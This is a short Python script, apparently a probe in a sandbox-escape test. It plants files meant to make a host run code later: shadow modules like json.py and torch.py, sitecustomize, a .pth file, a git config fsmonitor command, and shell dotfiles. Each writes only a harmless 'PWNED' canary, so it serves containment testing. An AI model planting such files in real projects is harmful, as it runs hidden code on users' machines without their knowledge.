"""Plant code that runs later on the host: shadow modules, sitecustomize, .pth, git hooks, pytest/conda/direnv files."""

import json
import os

out = os.environ["M3_OUT"]
boom = "open(r'%s/canary.txt','a').write('PWNED\\n')\n" % os.environ["ATK_OUTSIDE"]
for n in (
    "json.py",
    "torch.py",
    "csv.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "setup.py",
    "zipfile.py",
):
    open(f"{out}/{n}", "w").write(boom)
open(out + "/x.pth", "w").write("import os;" + boom)
os.makedirs(out + "/.git/hooks")
os.makedirs(out + "/.git/objects")
os.makedirs(out + "/.git/refs")
open(out + "/.git/HEAD", "w").write("ref: refs/heads/main\n")
open(out + "/.git/config", "w").write(
    '[core]\n repositoryformatversion=0\n fsmonitor="echo PWNED >> %s/canary.txt; false"\n' % os.environ["ATK_OUTSIDE"]
)
for n in (".envrc", ".env", ".bashrc", ".profile"):
    open(f"{out}/{n}", "w").write("echo PWNED\n")
print(
    "ATTACK",
    json.dumps({"attack": "plant_code", "breach": None, "detail": "files planted; breach only if the host runs them"}),
)
